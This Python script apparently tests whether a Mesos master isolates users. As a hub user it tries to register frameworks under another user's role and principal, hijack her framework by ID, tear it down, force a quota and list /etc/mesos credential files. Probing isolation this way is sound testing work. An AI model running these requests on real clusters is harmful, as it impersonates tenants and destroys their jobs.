"""Requests of a hub user to a Mesos master in another user's name: hub_mesos.py MASTER ROLE PRINCIPAL FRAMEWORK. MASTER leads, PRINCIPAL is the
other user's, and ROLE and FRAMEWORK are those of the other user's driver. Prints the status and Mesos' answer for each as JSON."""

import base64
import json
import os
import sys
import urllib.error
import urllib.request

master, role, principal, framework = sys.argv[1:]
me, mine = os.environ["DRIVER_PRINCIPAL"], os.environ["DRIVER_ROLE"]
with open(os.environ["DRIVER_SECRET_FILE"], encoding="utf-8") as file:
    own = f"{me}:{file.read()}"
found = {}


def call(path, body, login):
    text, kind = (body, "application/x-www-form-urlencoded") if isinstance(body, str) else (json.dumps(body), "application/json")
    headers = {"Content-Type": kind, "Accept": "application/json", "Authorization": "Basic " + base64.b64encode(login.encode()).decode()}
    try:
        with urllib.request.urlopen(urllib.request.Request(f"http://{master}{path}", text.encode(), headers), timeout=20) as answer:
            # Reads only the first message: a registered framework gets further ones until it disconnects.
            return [answer.status, answer.read1(4096).decode(errors="replace")]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode(errors="replace")]


def register(roles, as_principal, login, **more):
    known = {"id": more["framework_id"]} if more else {}
    info = {"user": "spark", "name": "attack", "capabilities": [{"type": "MULTI_ROLE"}], "roles": roles, "principal": as_principal, **known}
    return call("/api/v1/scheduler", {"type": "SUBSCRIBE", **more, "subscribe": {"framework_info": info}}, login)


guarantee = {"role": mine, "guarantees": {"cpus": {"value": 4}}}
found["her role"] = register([role], me, own)
found["another role"] = register(["bi" if mine == "spark" else "spark"], me, own)
found["no role"] = register(["*"], me, own)
found["her principal"] = register([role], principal, own)
found["her principal with one's secret"] = register([role], principal, f"{principal}:{own.partition(':')[2]}")
found["her framework"] = register([mine], me, own, framework_id={"value": framework})
found["the end of her framework"] = call("/teardown", f"frameworkId={framework}", own)
found["a quota"] = call("/api/v1", {"type": "UPDATE_QUOTA", "update_quota": {"force": True, "quota_configs": [guarantee]}}, own)
found["one's own role"] = register([mine], me, own)
found["logins"] = sorted(os.listdir("/etc/mesos"))
print(json.dumps(found))
